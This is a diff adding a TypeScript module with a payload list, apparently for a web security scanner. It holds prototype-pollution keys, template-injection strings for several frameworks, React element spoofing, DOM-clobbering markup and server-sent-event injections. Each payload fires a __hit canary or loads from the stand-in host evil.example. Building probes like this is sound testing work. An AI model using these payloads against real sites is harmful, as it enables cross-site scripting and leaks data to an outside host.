@@ -1,0 +1,45 @@
+import type { Payload } from './payload.ts';
+
+/** Names that mean something to objects, templates of frameworks, and what looks like an element of React. */
+const TEXTS: readonly string[] = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'constructor.prototype.__hit',
+  '__proto__[src]=//evil.example/«id»',
+  'toString',
+  'hasOwnProperty',
+  'then',
+  'dangerouslySetInnerHTML',
+  '{"__proto__":{"src":"//evil.example/«id»"}}',
+  '{"constructor":{"prototype":{"onerror":"__hit(«id»)"}}}',
+  '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"//evil.example/«id»"}}',
+  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__hit(«id»)>"}}',
+  '{{constructor.constructor("__hit(«id»)")()}}',
+  '${__hit(«id»)}',
+  '#{__hit(«id»)}',
+  '<%= __hit(«id») %>',
+  '{% raw %}{{__hit(«id»)}}{% endraw %}',
+  '[[${__hit(«id»)}]]',
+  '*{__hit(«id»)}',
+  "{{$on.constructor('__hit(«id»)')()}}",
+  '<div ng-app ng-csp><p ng-click=$event.view.__hit(«id»)>x</p></div>',
+  '<p v-html="\'<img src=x onerror=__hit(«id»)>\'">x</p>',
+  '<p x-data x-init="__hit(«id»)">x</p>',
+  '<p hx-get=//evil.example/«id» hx-trigger=load>x</p>',
+  '<a data-ibid-open="//evil.example/«id»" data-ibid-ask>x</a>',
+  '<ibid-ask data-api=//evil.example/«id»></ibid-ask>',
+  '<a id=config href="javascript:__hit(«id»)"><a id=config name=api href=//evil.example/«id»>',
+  '<form id=document><input name=cookie value=«id»><img name=body src=//evil.example/«id»></form>',
+  '<img name=currentScript src=//evil.example/«id»>',
+  '{message}{title}{place}{count} //evil.example/«id»',
+  'event: run-end\ndata: {"message":"<img src=x onerror=__hit(«id»)>"}\n\n',
+  'retry: 1\nid: «id»\n: //evil.example/«id»',
+  'on',
+  '',
+].filter((text) => text !== '');
+
+export const OBJECTS: readonly Payload[] = TEXTS.map((text) => ({
+  name: 'object',
+  template: text.includes('«id»') ? text : `${text} «id»`,
+}));
